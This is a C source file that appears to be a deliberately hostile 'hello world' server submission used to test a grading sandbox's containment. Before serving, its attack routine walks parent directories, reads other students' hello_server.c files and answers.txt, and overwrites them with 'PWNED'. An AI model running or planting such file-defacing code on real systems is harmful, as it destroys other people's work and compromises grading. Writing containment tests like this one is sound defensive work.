/*
 * HOSTILE submission of chapters/01_hello/hello_server.c
 * does: goes up from its working folder (../, ../../, ... 8 levels) and, at
 *   each level, looks up to 3 folders down (not through symbolic links, at
 *   most 2000 entries in all) for files named hello_server.c or answers.txt:
 *   other students' submissions and the answer key. Each one it finds it
 *   reads, then rewrites (O_WRONLY | O_TRUNC) to hold "PWNED". The file in
 *   the environment variable WORKBOOK_HOSTILE_VICTIM, if set, comes first (a
 *   test passes a file of its own there). Its own working folder is skipped.
 *   Then it serves like the reference.
 * expect: every such file outside its working folder is unchanged (only its
 *   own folder is writable, and the other students' are not even visible);
 *   stderr says "HOSTILE: rewrote 0 file(s)"
 *
 * It attacks first, bounded (under 2 s), says on stderr what it achieved
 * (lines starting "HOSTILE:"; it never copies what it reads), then serves
 * like the reference, so that only containment is under test
 * (tests/selftest/test_sandbox.py).
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int parse_port(const char *text, in_port_t *port)
{
    unsigned long value;
    const char *p;

    if (*text == '\0')
        return -1;
    for (p = text; *p != '\0'; p++)
        if (*p < '0' || *p > '9')
            return -1;
    errno = 0;
    value = strtoul(text, NULL, 10);
    if (errno != 0 || value < 1 || value > 65535)
        return -1;
    *port = (in_port_t)value;
    return 0;
}

/* socket(), bind() to the port, listen(): the descriptor, or exit(1) */
static int listen_on(in_port_t port)
{
    struct sockaddr_in addr;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;

    if (fd == -1 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) == -1) {
        perror("socket");
        exit(1);
    }
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_ANY);
    addr.sin_port = htons(port);
    if (bind(fd, (struct sockaddr *)&addr, sizeof addr) == -1) {
        perror("bind");
        exit(1);
    }
    if (listen(fd, 5) == -1) {
        perror("listen");
        exit(1);
    }
    return fd;
}

static void greet(int listen_fd)
{
    int conn = accept(listen_fd, NULL, NULL);

    if (conn == -1) {
        perror("accept");
        exit(1);
    }
    if (write(conn, "Hello World!", 12) != 12)
        perror("write");
    close(conn);
}

#define MAX_ENTRIES 2000   /* directory entries looked at, in all */
#define MAX_DEPTH 3        /* folders below each level */
#define MAX_SEEN 2048      /* folders and files remembered */

static struct stat seen[MAX_SEEN];
static struct stat own_cwd;
static int nseen, nentries, nread, nrewritten;
static double start;

static double seconds(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* 1 if st was seen before (else remembers it) */
static int again(const struct stat *st)
{
    int i;

    for (i = 0; i < nseen; i++)
        if (seen[i].st_dev == st->st_dev && seen[i].st_ino == st->st_ino)
            return 1;
    if (nseen < MAX_SEEN)
        seen[nseen++] = *st;
    return 0;
}

/* read the file at path, then overwrite it with PWNED */
static void deface(const char *path)
{
    char text[4096];
    struct stat st;
    ssize_t got;
    long total = 0;
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);

    if (fd != -1) {
        if (fstat(fd, &st) == -1 || !S_ISREG(st.st_mode) || again(&st)) {
            close(fd);
            return;
        }
        while ((got = read(fd, text, sizeof text)) > 0)
            total += (long)got;
        close(fd);
        nread++;
        fprintf(stderr, "HOSTILE: read %s (%ld bytes)\n", path, total);
    }
    fd = open(path, O_WRONLY | O_TRUNC | O_NONBLOCK | O_NOCTTY);
    if (fd == -1)
        return;
    if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && write(fd, "PWNED", 5) == 5) {
        nrewritten++;
        fprintf(stderr, "HOSTILE: rewrote %s\n", path);
    }
    close(fd);
}

/* the victims in dir and up to MAX_DEPTH - depth folders below it */
static void search(const char *dir, int depth)
{
    char path[4096];
    struct dirent *entry;
    struct stat st;
    DIR *d;

    if (stat(dir, &st) == -1 || (st.st_dev == own_cwd.st_dev && st.st_ino == own_cwd.st_ino)
        || again(&st))
        return;
    d = opendir(dir);
    if (d == NULL)
        return;
    while (nentries < MAX_ENTRIES && seconds() - start < 2.0 && (entry = readdir(d)) != NULL) {
        nentries++;
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
            continue;
        if ((size_t)snprintf(path, sizeof path, "%s/%s", dir, entry->d_name) >= sizeof path)
            continue;
        if (strcmp(entry->d_name, "hello_server.c") == 0
            || strcmp(entry->d_name, "answers.txt") == 0)
            deface(path);
        else if (depth < MAX_DEPTH && lstat(path, &st) == 0 && S_ISDIR(st.st_mode))
            search(path, depth + 1);
    }
    closedir(d);
}

static void attack(void)
{
    const char *victim = getenv("WORKBOOK_HOSTILE_VICTIM");
    char up[64];
    int level;

    start = seconds();
    (void)stat(".", &own_cwd);
    if (victim != NULL)
        deface(victim);
    strcpy(up, "..");
    for (level = 1; level <= 8; level++) {
        search(up, 0);
        strcat(up, "/..");
    }
    fprintf(stderr, "HOSTILE: rewrote %d file(s), read %d, looked at %d entries\n",
            nrewritten, nread, nentries);
}

int main(int argc, char *argv[])
{
    in_port_t port;
    int fd;

    if (argc != 2) {
        fprintf(stderr, "Usage: hello_server <port>\n");
        return 1;
    }
    if (parse_port(argv[1], &port) == -1) {
        fprintf(stderr, "hello_server: invalid port '%s'\n", argv[1]);
        return 1;
    }
    signal(SIGPIPE, SIG_IGN);
    attack();
    fd = listen_on(port);
    greet(fd);
    return 0;
}
